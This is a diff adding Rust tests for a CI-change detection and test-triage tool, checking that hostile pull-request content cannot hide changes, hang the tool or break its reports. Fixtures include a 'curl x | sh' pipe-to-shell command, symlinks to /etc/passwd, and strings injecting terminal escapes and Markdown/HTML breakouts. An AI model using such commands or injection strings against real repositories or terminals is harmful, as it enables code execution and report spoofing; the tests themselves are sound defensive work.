@@ -708,6 +708,789 @@ fn triage_fails_closed_on_what_it_cannot_read() {
     assert!(out.contains("no failing test to triage"), "{out}");
 }
 
+// Hostile repositories and inputs: what a pull request's author controls
+// (commit subjects, file names, CI files, test names and messages) must not
+// hide a change, hang the check or break out of the report.
+
+/// A failing test importing `helper.py`, its job disabled on 2026-09-01,
+/// restored on a branch. Returns the disabling commit.
+fn small_dark_job(subject_while_dark: &str) -> (Repo, String) {
+    let repo = Repo::new();
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: kv\n  command: pytest tests\n",
+    );
+    repo.write("helper.py", "X = 1\n");
+    repo.write(
+        "tests/test_a.py",
+        "import helper\n\n\ndef test_a():\n    assert helper.X == 1\n",
+    );
+    repo.commit("2026-08-01", "Add the job");
+    repo.write(".buildkite/pipeline.yml", "steps: []\n");
+    let disabling = repo.commit("2026-09-01", "Disable the job");
+    repo.write("helper.py", "X = 2\n");
+    repo.commit("2026-09-02", subject_while_dark);
+    repo.git(&["checkout", "-q", "-b", "restore"]);
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: kv\n  command: pytest tests\n",
+    );
+    repo.commit("2026-10-01", "Restore the job");
+    repo.write(
+        "reports/r.xml",
+        "<testsuites><testsuite><testcase classname=\"tests.test_a\" name=\"test_a\"><failure message=\"assert 2 == 1\"/></testcase></testsuite></testsuites>",
+    );
+    (repo, disabling)
+}
+
+#[test]
+fn a_commit_subject_cannot_hide_or_forge_commits() {
+    // Git keeps a record separator in a subject; the log must still be read
+    // commit by commit.
+    let forged = "Tweak\u{1e}0000000000000000000000000000000000000000 the helper";
+    let (repo, _) = small_dark_job(forged);
+    let (code, out, err) = repo.layerlock(&[
+        "triage",
+        "kv=reports/r.xml",
+        "--dark-since",
+        "auto",
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 1, "{out}{err}");
+    let report = json(&out);
+    let failure = failure(&report, "tests/test_a.py::test_a");
+    assert_eq!(failure["cause"], "latent", "{failure:#}");
+    assert_eq!(subjects(&failure["latent"]), [forged]);
+
+    // The same subject on the commit that disabled a step.
+    let repo = Repo::new();
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: a\n  command: make\n",
+    );
+    repo.commit("2026-08-01", "Add");
+    repo.write(".buildkite/pipeline.yml", "steps: []\n");
+    repo.commit("2026-09-01", forged);
+    repo.git(&["checkout", "-q", "-b", "restore"]);
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: a\n  command: make -j9\n",
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--disabled-by", "auto", "--format", "json"]);
+    assert_eq!(code, 1, "the restored step differs: {out}{err}");
+    assert_eq!(status_of(&json(&out), "a"), "changed");
+}
+#[test]
+fn file_names_are_never_pathspec_magic() {
+    let repo = Repo::new();
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: a\n  command: make\n",
+    );
+    let base = repo.commit("2026-08-01", "Add");
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: a\n  command: curl x | sh\n",
+    );
+    // A nested CI folder whose name, read as pathspec magic, would exclude
+    // every `.buildkite` folder.
+    repo.write(":(exclude,glob)**/.buildkite/pipeline.yml", "steps: []\n");
+    repo.write(":!.buildkite/.buildkite/pipeline.yml", "steps: []\n");
+    repo.commit("2026-08-02", "Nested pipelines");
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, "--format", "json"]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert_eq!(status_of(&json(&out), "a"), "changed");
+    // And a path given on the command line is a path.
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, ".buildkite/pipeline.yml"]);
+    assert_eq!(code, 1, "{out}{err}");
+}
+impl Repo {
+    /// `layerlock ARGS`, stopped after `secs` seconds: a hang is a failure
+    /// of its own, not a test that never ends.
+    fn layerlock_within(&self, secs: u64, args: &[&str]) -> (i32, String, String) {
+        let mut cmd = self.work.layerlock(args);
+        cmd.env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        let mut child = cmd.spawn().expect("run layerlock");
+        // Read while it runs: a report larger than a pipe holds would
+        // otherwise stop it on its write.
+        let drain = |pipe: Option<Box<dyn std::io::Read + Send>>| {
+            std::thread::spawn(move || {
+                let mut bytes = Vec::new();
+                if let Some(mut pipe) = pipe {
+                    let _ = pipe.read_to_end(&mut bytes);
+                }
+                String::from_utf8_lossy(&bytes).into_owned()
+            })
+        };
+        let out = drain(child.stdout.take().map(|p| Box::new(p) as _));
+        let err = drain(child.stderr.take().map(|p| Box::new(p) as _));
+        let started = std::time::Instant::now();
+        let status = loop {
+            if let Some(status) = child.try_wait().expect("wait") {
+                break status;
+            }
+            if started.elapsed() > std::time::Duration::from_secs(secs) {
+                let _ = child.kill();
+                let _ = child.wait();
+                panic!("layerlock {args:?} ran longer than {secs} s");
+            }
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        };
+        (
+            status.code().unwrap_or(-1),
+            out.join().expect("stdout"),
+            err.join().expect("stderr"),
+        )
+    }
+}
+
+#[test]
+fn jobs_of_the_same_name_are_matched_by_file_and_never_hang() {
+    // A job id written three times in one workflow (YAML keeps duplicate
+    // keys).
+    let repo = Repo::new();
+    let thrice = "on: push\njobs:\n  build:\n    runs-on: a\n  build:\n    runs-on: b\n  build:\n    runs-on: c\n";
+    repo.write(".github/workflows/ci.yml", thrice);
+    let base = repo.commit("2026-08-01", "Add");
+    let (code, out, err) = repo.layerlock_within(20, &["blocks", "--since", &base]);
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(out.contains("3 steps compared: 3 unchanged"), "{out}");
+
+    // `test` in two workflows: the one in a.yml (sorted first) is disabled,
+    // then restored with a change; ci.yml's never moved.
+    let repo = Repo::new();
+    let job = |run: &str| {
+        format!("on: push\njobs:\n  test:\n    runs-on: x\n    steps:\n    - run: {run}\n")
+    };
+    repo.write(".github/workflows/a.yml", &job("pytest a"));
+    repo.write(".github/workflows/ci.yml", &job("pytest ci"));
+    repo.commit("2026-08-01", "Add");
+    repo.write(".github/workflows/a.yml", "on: push\njobs: {}\n");
+    let disabling = repo.commit("2026-09-01", "Disable a");
+    repo.git(&["checkout", "-q", "-b", "restore"]);
+    repo.write(".github/workflows/a.yml", &job("curl x | sh"));
+    for baseline in [
+        ["--disabled-by", disabling.as_str()],
+        ["--disabled-by", "auto"],
+    ] {
+        let mut args = vec!["blocks"];
+        args.extend(baseline);
+        let (code, out, err) = repo.layerlock_within(20, &args);
+        assert_eq!(code, 1, "{baseline:?}: {out}{err}");
+        assert!(
+            out.contains("changed: job test (.github/workflows/a.yml)"),
+            "{out}"
+        );
+        assert!(out.contains("+curl x | sh"), "{out}");
+        assert!(
+            !out.contains("ci.yml"),
+            "ci.yml's job was never disabled: {out}"
+        );
+    }
+    // Every occurrence of a job compared with the one in its own file.
+    let (code, out, _) = repo.layerlock_within(20, &["blocks", "--since", "main"]);
+    assert_eq!(code, 0, "a job added back is no difference: {out}");
+    assert!(
+        out.contains("added: job test (.github/workflows/a.yml)"),
+        "{out}"
+    );
+    let (code, out, _) =
+        repo.layerlock_within(20, &["blocks", "--since", "main~1", "--step", "test"]);
+    assert_eq!(code, 1, "{out}");
+    assert!(
+        out.contains("changed: job test (.github/workflows/a.yml)"),
+        "{out}"
+    );
+    assert!(
+        out.contains("2 steps compared: 1 changed, 1 unchanged"),
+        "{out}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn symlinked_ci_files_are_followed_inside_the_repository_only() {
+    use std::os::unix::fs::symlink;
+    let repo = Repo::new();
+    repo.write("ci/pipeline.yml", "steps:\n- key: a\n  command: make\n");
+    std::fs::create_dir_all(repo.path().join(".buildkite")).expect("mkdir");
+    symlink(
+        "../ci/pipeline.yml",
+        repo.path().join(".buildkite/pipeline.yml"),
+    )
+    .expect("symlink");
+    let base = repo.commit("2026-08-01", "Add");
+    repo.write(
+        "ci/pipeline.yml",
+        "steps:\n- key: a\n  command: curl x | sh\n",
+    );
+    // The file at the revision is the link's target, as in the work tree.
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, "--format", "json"]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert_eq!(status_of(&json(&out), "a"), "changed");
+
+    // A link that leaves the repository, at the revision: refused, named.
+    symlink("/etc/passwd", repo.path().join(".buildkite/outside.yml")).expect("symlink");
+    let outside = repo.commit("2026-08-02", "Link out");
+    std::fs::remove_file(repo.path().join(".buildkite/outside.yml")).expect("rm");
+    let (code, _, err) = repo.layerlock(&["blocks", "--since", &outside]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains(".buildkite/outside.yml at "), "{err}");
+    assert!(err.contains("outside the repository"), "{err}");
+
+    // A link to nothing in the work tree is no file removed: it cannot be
+    // read.
+    symlink("../ci/gone.yml", repo.path().join(".buildkite/gone.yml")).expect("symlink");
+    let (code, _, err) = repo.layerlock(&["blocks", "--since", &base]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains(".buildkite/gone.yml"), "{err}");
+}
+#[test]
+fn ci_files_history_cannot_read_are_reported_by_disabled_by_auto() {
+    let repo = Repo::new();
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: a\n  command: make\n- key: b\n  command: [oops\n",
+    );
+    repo.commit("2026-08-01", "Add, one step broken");
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: x\n  command: make\n",
+    );
+    repo.commit("2026-09-01", "Replace");
+    repo.git(&["checkout", "-q", "-b", "restore"]);
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: x\n  command: make\n- key: a\n  command: curl x | sh\n",
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--disabled-by", "auto"]);
+    assert_eq!(code, 2, "the old definition could not be read: {out}{err}");
+    assert!(err.contains("not valid YAML"), "{err}");
+    // Nor can triage tell when the job went dark.
+    repo.write(
+        "r.xml",
+        "<testsuites><testsuite><testcase classname=\"t\" name=\"t\"><failure/></testcase></testsuite></testsuites>",
+    );
+    let (code, _, err) = repo.layerlock(&["triage", "a=r.xml", "--dark-since", "auto"]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("not valid YAML"), "{err}");
+}
+
+#[test]
+fn a_step_or_path_that_names_nothing_is_an_error_not_a_pass() {
+    let repo = Repo::new();
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: a\n  command: make\n",
+    );
+    repo.write("README.md", "hi\n");
+    let base = repo.commit("2026-08-01", "Add");
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: a\n  command: curl x | sh\n",
+    );
+    for args in [
+        vec!["--step", "typo"],
+        vec![".buildkite/typo.yml"],
+        vec!["README.md"],
+        vec!["nowhere/"],
+    ] {
+        let mut all = vec!["blocks", "--since", &base];
+        all.extend(&args);
+        let (code, out, err) = repo.layerlock(&all);
+        assert_eq!(code, 2, "{args:?}: {out}{err}");
+        let named = args.last().expect("arg").trim_end_matches('/');
+        assert!(err.contains(named), "{err}");
+    }
+    let (code, out, err) =
+        repo.layerlock(&["blocks", "--since", &base, "--step", "a", ".buildkite/"]);
+    assert_eq!(code, 1, "{out}{err}");
+
+    // Where triage looks for the steps: inside the repository too.
+    let (repo, _) = small_dark_job("Change the helper");
+    repo.write("layerlock.toml", "[blocks]\npaths = [\"/\"]\n");
+    let (code, _, err) = repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "auto"]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("outside the repository"), "{err}");
+}
+
+#[test]
+fn disabled_by_auto_says_so_when_it_stops_looking() {
+    // The step was removed before 2,001 commits whose diffs mention its key.
+    let repo = Repo::new();
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: a\n  command: make\n",
+    );
+    repo.commit("2026-01-01", "Add");
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: b\n  command: make\n",
+    );
+    repo.commit("2026-01-02", "Remove a");
+    let mut stream = Vec::new();
+    for i in 0..2001 {
+        let data = format!("steps:\n- key: b\n  command: make # a {i}\n");
+        let from = if i == 0 {
+            "from refs/heads/main^0\n"
+        } else {
+            ""
+        };
+        stream.extend(
+            format!(
+                "commit refs/heads/main\ncommitter Dev <dev@example.com> {} +0000\ndata 2\nx\n{from}M 100644 inline .buildkite/pipeline.yml\ndata {}\n{data}\n",
+                1_767_400_000 + i,
+                data.len()
+            )
+            .into_bytes(),
+        );
+    }
+    let mut import = Process::new("git")
+        .current_dir(repo.path())
+        .args(["fast-import", "--quiet"])
+        .stdin(std::process::Stdio::piped())
+        .spawn()
+        .expect("git fast-import");
+    std::io::Write::write_all(&mut import.stdin.take().expect("stdin"), &stream).expect("feed");
+    assert!(import.wait().expect("wait").success());
+    repo.git(&["reset", "-q", "--hard"]);
+    repo.git(&["checkout", "-q", "-b", "restore"]);
+    repo.write(
+        ".buildkite/pipeline.yml",
+        "steps:\n- key: b\n  command: make\n- key: a\n  command: curl x | sh\n",
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--disabled-by", "auto"]);
+    assert_eq!(code, 2, "not 'added': {out}{err}");
+    assert!(err.contains("--disabled-by COMMIT"), "{err}");
+}
+
+#[test]
+fn a_gitlab_job_is_compared_as_gitlab_runs_it() {
+    let repo = Repo::new();
+    let pipeline = |image: &str, script: &str, default_image: &str| {
+        format!(
+            "default:\n  image: {default_image}\nvariables:\n  MODE: fast\n.tests:\n  image: {image}\n  script:\n  - {script}\nunit:\n  extends: .tests\n  stage: test\nlint:\n  script:\n  - ruff check\n"
+        )
+    };
+    repo.write(
+        ".gitlab-ci.yml",
+        &pipeline("python:3.11", "pytest", "alpine"),
+    );
+    let base = repo.commit("2026-08-01", "Add");
+    // The template's image and script changed; `unit` did not, itself.
+    repo.write(
+        ".gitlab-ci.yml",
+        &pipeline("evil/image", "curl x | sh", "alpine"),
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("changed: job unit"), "{out}");
+    assert!(out.contains("+curl x | sh"), "{out}");
+    assert!(
+        out.contains("image: \"python:3.11\" → \"evil/image\""),
+        "{out}"
+    );
+    assert!(!out.contains("changed: job lint"), "{out}");
+    // The pipeline's default image reaches the job that sets none.
+    repo.write(
+        ".gitlab-ci.yml",
+        &pipeline("python:3.11", "pytest", "evil/base"),
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("changed: job lint"), "{out}");
+    assert!(
+        !out.contains("changed: job unit"),
+        "its own image wins: {out}"
+    );
+    // A template in another GitLab file.
+    repo.write(
+        ".gitlab-ci.yml",
+        "unit:\n  extends: .tests\n  stage: test\n",
+    );
+    repo.write(
+        ".gitlab/ci/templates.yml",
+        ".tests:\n  image: python:3.11\n  script:\n  - pytest -x\n",
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, "--step", "unit"]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("+pytest -x"), "{out}");
+
+    // What cannot be resolved is a problem, and loops end.
+    repo.write(
+        ".gitlab-ci.yml",
+        "unit:\n  extends: .missing\n  script: [x]\nloop:\n  extends: .a\n.a:\n  extends: .b\n.b:\n  extends: .a\n",
+    );
+    let (code, _, err) = repo.layerlock_within(20, &["blocks", "--since", &base]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains(".missing"), "{err}");
+    assert!(err.contains("loop"), "{err}");
+    // Templates extending many templates, many levels deep: no blow-up.
+    let mut wide = String::from("unit:\n  extends: .t0\n  script: [x]\n");
+    for level in 0..4 {
+        let next: Vec<String> = (0..50).map(|i| format!(".t{}_{i}", level + 1)).collect();
+        wide.push_str(&format!(".t{level}:\n  extends: [{}]\n", next.join(", ")));
+        for name in next {
+            wide.push_str(&format!(
+                "{name}:\n  extends: .t{}\n  variables: {{V{level}: '1'}}\n",
+                level + 1
+            ));
+        }
+    }
+    wide.push_str(".t4:\n  image: x\n");
+    repo.write(".gitlab-ci.yml", &wide);
+    let (code, out, err) = repo.layerlock_within(20, &["blocks", "--since", &base]);
+    assert!(code == 0 || code == 1, "{out}{err}");
+}
+
+/// What a pull request's author can write into a report: Markdown and HTML
+/// that would break out of a code span, a cell, a fence or the details
+/// block; terminal escapes; line breaks.
+const HOSTILE: &str = "x` </code></summary></details> <!-- ![p](https://t.example/p.png) [ok](https://e.example) *b* | \u{1b}]0;owned\u{7}\u{1b}[2J \u{202e}";
+
+/// A Markdown line without its code spans (CommonMark's rule: a run of N
+/// backticks up to the next run of exactly N), backslash escapes dropped.
+fn outside_code(line: &str) -> String {
+    let chars: Vec<char> = line.chars().collect();
+    let mut out = String::new();
+    let mut i = 0;
+    while i < chars.len() {
+        match chars[i] {
+            '\\' if i + 1 < chars.len() && chars[i + 1].is_ascii_punctuation() => i += 2,
+            '`' => {
+                let run = chars[i..].iter().take_while(|c| **c == '`').count();
+                let mut j = i + run;
+                let mut closed = None;
+                while j < chars.len() {
+                    let other = chars[j..].iter().take_while(|c| **c == '`').count();
+                    if other == run {
+                        closed = Some(j + other);
+                        break;
+                    }
+                    j += other.max(1);
+                }
+                match closed {
+                    Some(end) => i = end,
+                    None => {
+                        out.extend(&chars[i..i + run]);
+                        i += run;
+                    }
+                }
+            }
+            ch => {
+                out.push(ch);
+                i += 1;
+            }
+        }
+    }
+    out
+}
+
+fn assert_inert_markdown(out: &str) {
+    for bad in ["\u{1b}", "\u{7}", "\u{202e}"] {
+        assert!(!out.contains(bad), "{bad:?} reached the Markdown:\n{out}");
+    }
+    let mut fence: Option<String> = None;
+    for line in out.lines() {
+        if let Some(open) = &fence {
+            if line == open {
+                fence = None;
+            }
+            continue;
+        }
+        if line.starts_with("````") {
+            fence = Some(line.trim_end_matches(|c: char| c != '`').to_string());
+            continue;
+        }
+        if line == "</details>" {
+            continue;
+        }
+        if line.starts_with("<details><summary>") {
+            assert!(
+                !line.contains("<!--") && line.matches('<').count() == 5,
+                "{line}"
+            );
+            continue;
+        }
+        let text = outside_code(line);
+        for bad in ["<!--", "<img", "</", "![", "](", "<code>"] {
+            assert!(
+                !text.contains(bad),
+                "{bad:?} outside code in {line:?}:\n{out}"
+            );
+        }
+        assert!(
+            !line.starts_with("## ") && (!line.starts_with('<') || line == "</details>"),
+            "a line of the author's: {line:?}"
+        );
+    }
+}
+
+#[test]
+fn reports_are_inert_whatever_the_names_messages_and_subjects() {
+    // triage: a test name and a message, and a commit subject, all hostile.
+    let (repo, _) = small_dark_job(&format!("Change the helper {HOSTILE}"));
+    let attr = HOSTILE
+        .replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+        .replace('"', "&quot;")
+        .replace('\u{1b}', "&#27;")
+        .replace('\u{7}', "&#7;");
+    repo.write(
+        "reports/r.xml",
+        &format!(
+            "<testsuites><testsuite><testcase classname=\"tests.test_a\" name=\"test_a[{attr}&#10;    latent]\" file=\"tests/test_a.py\"><failure message=\"{attr}\"/></testcase></testsuite></testsuites>"
+        ),
+    );
+    let (code, md, err) = repo.layerlock(&[
+        "triage",
+        "kv=reports/r.xml",
+        "--dark-since",
+        "auto",
+        "--format",
+        "markdown",
+    ]);
+    assert_eq!(code, 1, "{md}{err}");
+    assert_inert_markdown(&md);
+    let rows: Vec<&str> = md.lines().filter(|l| l.starts_with("| ")).collect();
+    assert_eq!(rows.len(), 2, "the header and one row: {md}");
+    let (code, text, err) = repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "auto"]);
+    assert_eq!(code, 1, "{text}{err}");
+    assert!(
+        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'),
+        "{text}"
+    );
+    assert!(
+        text.contains("\\x1b]0;owned"),
+        "escaped, still legible: {text}"
+    );
+    assert!(
+        !text.contains("\n    latent]"),
+        "a test name cannot start a line: {text}"
+    );
+
+    // blocks: a step key, a field value with line breaks, a command that
+    // closes a four-backtick fence, a disabling commit's subject.
+    let repo = Repo::new();
+    let key = HOSTILE
+        .replace('\\', "\\\\")
+        .replace('"', "\\\"")
+        .replace('\u{1b}', "\\e")
+        .replace('\u{7}', "\\a");
+    let step = |command: &str| {
+        format!(
+            "steps:\n- key: \"{key}\"\n  env:\n    L: [\"x\\n\\n</details>\\n\\n## All clear\\n<!--\"]\n  commands:\n  - \"````\"\n  - {command}\n"
+        )
+    };
+    repo.write(".buildkite/pipeline.yml", &step("make"));
+    repo.commit("2026-08-01", "Add");
+    repo.write(".buildkite/pipeline.yml", "steps: []\n");
+    let disabling = repo.commit("2026-09-01", &format!("Disable {HOSTILE}"));
+    repo.write(
+        ".buildkite/pipeline.yml",
+        &step("make -j9").replace("[\"x", "[\"y"),
+    );
+    let (code, md, err) = repo.layerlock(&[
+        "blocks",
+        "--disabled-by",
+        &disabling,
+        "--format",
+        "markdown",
+    ]);
+    assert_eq!(code, 1, "{md}{err}");
+    assert_inert_markdown(&md);
+    assert!(!md.contains("\n## All clear"), "{md}");
+    let fence = md
+        .lines()
+        .find(|l| l.ends_with("diff"))
+        .expect("a diff fence");
+    let close = &fence[..fence.len() - 4];
+    assert!(
+        close.len() > 4,
+        "the fence outgrows the commands' backticks: {md}"
+    );
+    let after = &md[md.find(fence).expect("fence") + fence.len()..];
+    let body = &after[..after.find(&format!("\n{close}\n")).expect("closed")];
+    assert!(body.contains("+make -j9"), "the whole diff is fenced: {md}");
+    let (_, text, _) = repo.layerlock(&["blocks", "--disabled-by", &disabling]);
+    assert!(
+        !text.contains('\u{1b}') && !text.contains('\u{7}'),
+        "{text}"
+    );
+}
+
+#[test]
+fn reports_that_are_fifos_or_utf16_are_read_or_refused_without_waiting() {
+    let (repo, _) = small_dark_job("Change the helper");
+    // A FIFO no one writes to: refused at once, not waited on.
+    let fifo = repo.path().join("reports/fifo.xml");
+    let made = Process::new("mkfifo").arg(&fifo).status().expect("mkfifo");
+    assert!(made.success());
+    let (code, _, err) = repo.layerlock_within(
+        20,
+        &["triage", "kv=reports/fifo.xml", "--dark-since", "auto"],
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("reports/fifo.xml") && err.contains("not a regular file"),
+        "{err}"
+    );
+    // UTF-16 with its byte-order mark, as some JUnit writers save it.
+    let xml = repo.work.read("reports/r.xml");
+    let mut utf16 = vec![0xff, 0xfe];
+    utf16.extend(xml.encode_utf16().flat_map(u16::to_le_bytes));
+    std::fs::write(repo.path().join("reports/r16.xml"), utf16).expect("write");
+    let (code, out, err) = repo.layerlock(&[
+        "triage",
+        "kv=reports/r16.xml",
+        "--dark-since",
+        "auto",
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert_eq!(
+        failure(&json(&out), "tests/test_a.py::test_a")["cause"],
+        "latent"
+    );
+    // A date for the window is shown whole.
+    let (_, text, _) =
+        repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "2026-09-01"]);
+    assert!(
+        text.contains("job kv: dark since 2026-09-01T00:00:00Z\n"),
+        "{text}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn a_test_file_triage_cannot_read_is_an_error_not_unexplained() {
+    let (repo, _) = small_dark_job("Change the helper");
+    // The failing test's file links out of the repository.
+    std::fs::remove_file(repo.path().join("tests/test_a.py")).expect("rm");
+    std::os::unix::fs::symlink("/etc/passwd", repo.path().join("tests/test_a.py")).expect("ln");
+    repo.commit("2026-10-02", "Link the test out");
+    let (code, out, err) = repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "auto"]);
+    assert_eq!(code, 2, "{out}{err}");
+    assert!(err.contains("tests/test_a.py"), "{err}");
+    assert!(!out.contains("root:"), "{out}");
+}
+
+#[test]
+fn many_stale_xfails_in_one_large_file_take_seconds_not_hours() {
+    // 1,500 strict xfail tests that all passed, in a test file of 1 MB:
+    // the file is read and scanned once, blamed once.
+    let (repo, _) = small_dark_job("Change the helper");
+    let mut source = String::from("import helper\nimport pytest\n");
+    for i in 0..1500 {
+        source.push_str(&format!(
+            "\n\n@pytest.mark.xfail(strict=True, reason=\"helper {i}\")\ndef test_x{i}():\n    assert helper.X == 2\n"
+        ));
+    }
+    source.push_str(&"# padding\n".repeat(100_000));
+    repo.write("tests/test_a.py", &source);
+    repo.commit("2026-10-03", "Many xfails");
+    let cases: String = (0..1500)
+        .map(|i| format!("<testcase classname=\"tests.test_a\" name=\"test_x{i}\"><failure message=\"[XPASS(strict)] helper {i}\"/></testcase>"))
+        .collect();
+    repo.write(
+        "reports/x.xml",
+        &format!("<testsuites><testsuite>{cases}</testsuite></testsuites>"),
+    );
+    let (code, out, err) = repo.layerlock_within(
+        90,
+        &[
+            "triage",
+            "kv=reports/x.xml",
+            "--dark-since",
+            "auto",
+            "--format",
+            "json",
+        ],
+    );
+    assert_eq!(code, 1, "{err}");
+    let report = json(&out);
+    let last = failure(&report, "tests/test_a.py::test_x1499");
+    assert_eq!(last["cause"], "stale-xfail");
+    assert_eq!(last["xfail"]["reason"], "helper 1499");
+    assert_eq!(last["xfail"]["added"]["subject"], "Many xfails");
+}
+
+#[test]
+fn a_dark_since_revision_off_the_main_line_is_refused() {
+    let (repo, _) = small_dark_job("Change the helper");
+    // The branch's own commit: the window `REV..merge-base` would be empty
+    // and every failure unexplained.
+    let (code, out, err) = repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "HEAD"]);
+    assert_eq!(code, 2, "{out}{err}");
+    assert!(err.contains("not on the main line"), "{err}");
+}
+
+#[test]
+fn what_a_workflow_or_pipeline_gives_its_jobs_is_compared_with_them() {
+    let repo = Repo::new();
+    let workflow = |on: &str, a: &str| {
+        format!(
+            "on: {on}\nenv:\n  A: '{a}'\njobs:\n  t:\n    runs-on: x\n    steps:\n    - run: pytest\n"
+        )
+    };
+    let pipeline = |a: &str, group_if: &str| {
+        format!(
+            "env:\n  A: '{a}'\nsteps:\n- group: G\n  key: g\n{group_if}  steps:\n  - key: a\n    command: make\n"
+        )
+    };
+    repo.write(".github/workflows/ci.yml", &workflow("push", "1"));
+    repo.write(".buildkite/pipeline.yml", &pipeline("1", ""));
+    let base = repo.commit("2026-08-01", "Add");
+    // The workflow no longer runs on push; its environment changed.
+    repo.write(
+        ".github/workflows/ci.yml",
+        &workflow("workflow_dispatch", "2"),
+    );
+    // The pipeline's environment changed, and the group no longer runs.
+    repo.write(".buildkite/pipeline.yml", &pipeline("2", "  if: 'false'\n"));
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("changed: job t"), "{out}");
+    assert!(
+        out.contains("workflow.on: \"push\" → \"workflow_dispatch\""),
+        "{out}"
+    );
+    assert!(out.contains("workflow.env.A: \"1\" → \"2\""), "{out}");
+    assert!(out.contains("changed: key a"), "{out}");
+    assert!(out.contains("group.if: (absent) → \"false\""), "{out}");
+    assert!(out.contains("pipeline.env.A: \"1\" → \"2\""), "{out}");
+}
+
+#[test]
+fn disabled_by_a_commit_that_disabled_nothing_is_an_error() {
+    let (repo, _) = disabled_and_restored();
+    // The commit after the disabling one touched the pipeline but removed
+    // no step: comparing "the steps it disabled" checks nothing.
+    let wrong = repo.git(&["rev-parse", "main"]);
+    let (code, out, err) = repo.layerlock(&["blocks", "--disabled-by", &wrong]);
+    assert_eq!(code, 2, "{out}{err}");
+    assert!(err.contains("removed no step"), "{err}");
+}
+
+#[test]
+fn errors_quote_hostile_names_inertly() {
+    let (repo, _) = small_dark_job("Change the helper");
+    repo.write(
+        "reports/bk.json",
+        "[{\"name\":\"t\\u001b]0;owned\\u0007\",\"scope\":\"tests.test_a\",\"result\":\"weird\"}]",
+    );
+    let (code, _, err) = repo.layerlock(&["triage", "kv=reports/bk.json", "--dark-since", "auto"]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("weird"), "{err}");
+    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
+}
+
 #[test]
 fn a_sparse_checkout_does_not_remove_the_files_it_leaves_out() {
     let repo = Repo::new();
